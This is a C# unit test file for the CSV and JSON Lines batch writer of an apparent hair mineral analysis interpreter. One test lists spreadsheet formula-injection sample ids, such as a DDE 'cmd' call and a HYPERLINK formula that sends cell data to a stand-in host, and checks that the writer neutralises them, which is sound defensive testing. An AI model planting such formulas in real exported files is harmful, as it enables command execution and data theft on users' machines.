using System.Text.Json;
using HtmaInterpreter.Batch;
using HtmaInterpreter.Diagnostics;
using HtmaInterpreter.Oxidation;
using HtmaInterpreter.Readers;

namespace HtmaInterpreter.Tests.Batch;

[TestFixture(true)]
[TestFixture(false)]
public class BatchResultWriterTests(bool useFastPath)
{
    /// <summary>The cells after has_errors of a row of the default interpreter on an ARL panel, note empty.</summary>
    private static readonly string ArlRunCells = $",arl,eck-wilson,default,{Interpreter.Default.Rules.Version},";

    /// <summary>The note cell of the first CSV row: the one statement, quoted (it holds commas).</summary>
    private static readonly string CsvNote = "\"" + Interpretation.NotADiagnosis + "\"";

    private List<BatchResult> SampleResults()
    {
        var path = TestPaths.Sample("wide-clinic-batch.csv");
        using var stream = File.OpenRead(path);
        return new BatchInterpreter(Interpreter.Default, BatchTestData.Way(null, useFastPath)).Run(new PanelReader().ReadWideCsvStream(stream, "wide-clinic-batch.csv")).ToList();
    }

    private string Write(IEnumerable<BatchResult> results, BatchOutputFormat format)
    {
        using var text = new StringWriter();
        using (var writer = new BatchResultWriter(text, format, leaveOpen: true) { UseFastPath = useFastPath })
        {
            foreach (var result in results)
            {
                writer.Write(result);
            }
        }

        return text.ToString();
    }

    [Test]
    public void The_ratio_columns_and_members_are_made_from_the_key_ratio_names()
    {
        BatchResultWriter.CsvHeader.Should().Be(
            "line,sample_id,oxidation_type,lean,degree,ca_k,na_mg,na_k,ca_mg,zn_cu,ca_p,fired_rules,diagnostics,has_errors,lab_profile,model,rule_set,rule_set_version,note");
        BatchResult.KeyRatioNames.Select(BatchRowFormat.JsonMemberName).Should().Equal("caK", "naMg", "naK", "caMg", "znCu", "caP");
        new BatchResult().KeyRatios.Should().HaveCount(BatchResult.KeyRatioNames.Count).And.OnlyContain(v => v == null);
    }

    [Test]
    public void Csv_of_the_sample_has_a_header_and_one_row_per_panel_matching_the_interpreter()
    {
        var csv = Write(SampleResults(), BatchOutputFormat.Csv);
        var lines = csv.Split('\n');
        var panels = new PanelReader().ReadFile(TestPaths.Sample("wide-clinic-batch.csv")).Value!;

        lines[0].Should().Be(BatchResultWriter.CsvHeader);
        lines[^1].Should().BeEmpty("the file ends with a newline");
        lines.Should().HaveCount(24);
        lines[1].Should().Be(
            "2,S-2026-0201,slow,,mild,6.888888888888889,2.5,2.2222222222222223,7.75,10.714285714285715,4.428571428571429," +
            "bio-unavailable-calcium-magnesium;sodium-potassium-inversion;potassium-loss-slow-oxidation;low-sodium-slow-oxidation;" +
            "hidden-copper;copper-excess-not-assessable,3,false" + ArlRunCells + CsvNote);
        lines[2].Should().EndWith(",false" + ArlRunCells, "the note is on the first row only");
        lines[8].Should().StartWith("9,S-2026-0208,mixed,slow,,");
        for (var i = 0; i < panels.Count; i++)
        {
            var expected = Interpreter.Default.Interpret(panels[i]);
            var cells = lines[i + 1].Split(',');
            cells[1].Should().Be(panels[i].SampleId);
            cells[2].Should().Be(expected.Oxidation.Type.ToString().ToLowerInvariant());
            cells[11].Should().Be(string.Join(';', expected.Findings.Select(f => f.RuleId).Distinct()));
            cells[14..18].Should().Equal(expected.LabProfile.Id, expected.Oxidation.ModelId, expected.RuleSetName, expected.RuleSetVersion);
        }
    }

    [Test]
    public void Json_lines_of_the_sample_hold_one_object_per_panel_matching_the_interpreter()
    {
        var lines = Write(SampleResults(), BatchOutputFormat.JsonLines).TrimEnd('\n').Split('\n');
        var panels = new PanelReader().ReadFile(TestPaths.Sample("wide-clinic-batch.csv")).Value!;

        lines.Should().HaveCount(22);
        for (var i = 0; i < panels.Count; i++)
        {
            var expected = Interpreter.Default.Interpret(panels[i]);
            using var json = JsonDocument.Parse(lines[i]);
            var root = json.RootElement;
            root.GetProperty("line").GetInt32().Should().Be(i + 2);
            root.GetProperty("sampleId").GetString().Should().Be(panels[i].SampleId);
            root.GetProperty("oxidationType").GetString().Should().Be(expected.Oxidation.Type.ToString().ToLowerInvariant());
            root.GetProperty("ratios").GetProperty("caK").GetDouble().Should().Be(expected.Ratios.Single(r => r.Name == "Ca/K").Value);
            root.GetProperty("firedRules").EnumerateArray().Select(e => e.GetString()).Should()
                .Equal(expected.Findings.Select(f => f.RuleId).Distinct());
            root.GetProperty("hasErrors").GetBoolean().Should().BeFalse();
            root.GetProperty("labProfile").GetString().Should().Be("arl");
            root.GetProperty("model").GetString().Should().Be(expected.Oxidation.ModelId).And.Be("eck-wilson");
            root.GetProperty("ruleSet").GetProperty("name").GetString().Should().Be(expected.RuleSetName);
            root.GetProperty("ruleSet").GetProperty("version").GetString().Should().Be(expected.RuleSetVersion);
            if (i == 0)
            {
                root.GetProperty("note").GetString().Should().Be(expected.Disclaimer).And.Be(Interpretation.NotADiagnosis);
            }
            else
            {
                root.TryGetProperty("note", out _).Should().BeFalse("the note is on the first record only");
            }
        }

        lines[7].Should().Contain("\"oxidationType\":\"mixed\",\"lean\":\"slow\",\"degree\":null");
    }

    [Test]
    public void Csv_quotes_a_sample_id_with_a_comma_or_quote_and_leaves_absent_values_empty()
    {
        var result = new BatchResult
        {
            Line = 7,
            SampleId = "A,\"1\"",
            Oxidation = OxidationType.Fast,
            Degree = OxidationDegree.Extreme,
            KeyRatios = [0.5, null, 1e-7, null, 12, null],
            DiagnosticsCount = 2,
        };

        Write([result], BatchOutputFormat.Csv).Should().Be(
            BatchResultWriter.CsvHeader + "\n" + "7,\"A,\"\"1\"\"\",fast,,extreme,0.5,,1E-07,,12,,,2,false,,,,," + CsvNote + "\n");
    }

    [TestCase("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1")]
    [TestCase("+1+cmd|x", "'+1+cmd|x")]
    [TestCase("@SUM(1+1)", "'@SUM(1+1)")]
    [TestCase("-2+3", "'-2+3")]
    [TestCase("=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\"")]
    [TestCase("\tS-1", "\\u0009S-1")] // a control character is shown visibly (TerminalText), so the cell no longer starts with it
    [TestCase("\rS-1", "\\u000DS-1")]
    [TestCase("=\u001B]0;x\u0007", "'=\\u001B]0;x\\u0007")]
    [TestCase("-", "'-")]
    [TestCase("-1.5", "-1.5")]
    [TestCase("+2", "+2")]
    [TestCase("-3e-4", "-3e-4")]
    [TestCase("-.5", "-.5")]
    [TestCase("S=1", "S=1")]
    [TestCase(" =1", " =1")]
    public void Csv_neutralises_a_sample_id_a_spreadsheet_would_run_as_a_formula(string sampleId, string cell)
    {
        var result = new BatchResult { Line = 2, SampleId = sampleId, Oxidation = OxidationType.Slow, KeyRatios = [], FiredRules = [] };
        var expected = BatchResultWriter.CsvHeader + "\n" + "2," + cell + ",slow,,,,,,,,,,0,false,,,,," + CsvNote + "\n";

        Write([result], BatchOutputFormat.Csv).Should().Be(expected);
        using var bytes = new MemoryStream();
        using (var writer = new BatchResultWriter(bytes, BatchOutputFormat.Csv, leaveOpen: true) { UseFastPath = useFastPath })
        {
            writer.Write(result);
        }

        System.Text.Encoding.UTF8.GetString(bytes.ToArray()).Should().Be(expected, "the stream writer formats the same way");
        using var json = JsonDocument.Parse(Write([result], BatchOutputFormat.JsonLines));
        json.RootElement.GetProperty("sampleId").GetString().Should().Be(sampleId, "JSON Lines keeps the id as it is");
    }

    [Test]
    public void Csv_reads_back_with_a_plain_csv_reader_as_one_header_and_one_row_per_panel_with_the_note_once()
    {
        var csv = Write(SampleResults(), BatchOutputFormat.Csv);

        // What a spreadsheet or a data frame does with no options: a header, then records of as many cells.
        using var reader = CsvHelper.CsvReader.Create(new StringReader(csv), new CsvHelper.CsvReaderOptions { HasHeader = false });
        reader.Read().Should().BeTrue();
        var header = Enumerable.Range(0, reader.FieldCount).Select(i => reader.GetString(i)).ToArray();
        header[^5..].Should().Equal("lab_profile", "model", "rule_set", "rule_set_version", "note");
        var notes = new List<string>();
        while (reader.Read())
        {
            reader.FieldCount.Should().Be(header.Length);
            var cells = Enumerable.Range(0, reader.FieldCount).Select(i => reader.GetString(i)).ToArray();
            cells[^5..^1].Should().Equal("arl", "eck-wilson", "default", Interpreter.Default.Rules.Version);
            notes.Add(cells[^1]!);
        }

        notes.Should().HaveCount(22);
        notes[0].Should().Be(Interpretation.NotADiagnosis);
        notes.Skip(1).Should().OnlyContain(n => n.Length == 0);
    }

    [Test]
    public void A_lab_profile_or_rule_set_a_spreadsheet_would_misread_is_quoted_or_neutralised()
    {
        var result = new BatchResult
        {
            Line = 2,
            SampleId = "S-1",
            Oxidation = OxidationType.Slow,
            LabProfileId = "my,lab",
            ModelId = "eck-wilson",
            RuleSetName = "=clinic",
            RuleSetVersion = "abc",
        };

        var rows = Write([result, result with { Line = 3 }], BatchOutputFormat.Csv).Split('\n');

        rows[1].Should().Be("2,S-1,slow,,,,,,,,,,0,false,\"my,lab\",eck-wilson,'=clinic,abc," + CsvNote);
        rows[2].Should().Be("3,S-1,slow,,,,,,,,,,0,false,\"my,lab\",eck-wilson,'=clinic,abc,");
    }

    [Test]
    public void Json_lines_of_a_bad_row_carry_its_read_diagnostics()
    {
        var result = new BatchResult
        {
            Line = 12,
            SampleId = "line 12",
            HasErrors = true,
            DiagnosticsCount = 1,
            ReadDiagnostics = [Diagnostic.Error(DiagnosticCodes.MissingRequiredField, "No sample id.", new SourceLocation("f.csv", 12, 1, "sample_id"))],
        };

        var line = Write([result], BatchOutputFormat.JsonLines);

        line.Should().Be(
            "{\"line\":12,\"sampleId\":\"line 12\",\"oxidationType\":null,\"lean\":null,\"degree\":null," +
            "\"ratios\":{\"caK\":null,\"naMg\":null,\"naK\":null,\"caMg\":null,\"znCu\":null,\"caP\":null},\"firedRules\":[]," +
            "\"diagnostics\":1,\"hasErrors\":true,\"labProfile\":null,\"model\":null,\"ruleSet\":null," +
            "\"readDiagnostics\":[{\"code\":\"HTMA0104\",\"severity\":\"error\"," +
            "\"message\":\"No sample id.\",\"line\":12,\"column\":1,\"field\":\"sample_id\"}]," +
            "\"note\":\"" + Interpretation.NotADiagnosis + "\"}\n");
    }

    [TestCase("results.csv", BatchOutputFormat.Csv)]
    [TestCase("out/RESULTS.CSV", BatchOutputFormat.Csv)]
    [TestCase("results.jsonl", BatchOutputFormat.JsonLines)]
    [TestCase("results.ndjson", BatchOutputFormat.JsonLines)]
    [TestCase("results.json", null)]
    [TestCase("results", null)]
    public void The_format_follows_the_extension(string fileName, BatchOutputFormat? expected) =>
        BatchResultWriter.FormatFromFileName(fileName).Should().Be(expected);

    [TestCase(BatchOutputFormat.Csv)]
    [TestCase(BatchOutputFormat.JsonLines)]
    public void A_stream_gets_exactly_the_utf8_of_what_a_text_writer_gets(BatchOutputFormat format)
    {
        // Many rows (the buffer is handed on several times), non-ASCII and quoted sample ids, a row with diagnostics.
        var sample = SampleResults();
        var results = Enumerable.Range(0, 3000)
            .Select(i => sample[i % sample.Count] with { SampleId = i % 7 == 0 ? $"Zoë \"{i}\", 測試" : sample[i % sample.Count].SampleId })
            .Append(new BatchResult
            {
                Line = 9,
                HasErrors = true,
                DiagnosticsCount = 1,
                ReadDiagnostics = [Diagnostic.Error("HTMA0204", new string('é', 40_000), new SourceLocation("x.csv", 9, 3, "Ca"))],
            })
            .ToList();
        var text = Write(results, format);

        using var bytes = new MemoryStream();
        using (var writer = new BatchResultWriter(bytes, format, leaveOpen: true) { UseFastPath = useFastPath })
        {
            foreach (var result in results)
            {
                writer.Write(result);
            }
        }

        bytes.ToArray().Should().Equal(new System.Text.UTF8Encoding(false).GetBytes(text));
    }
}
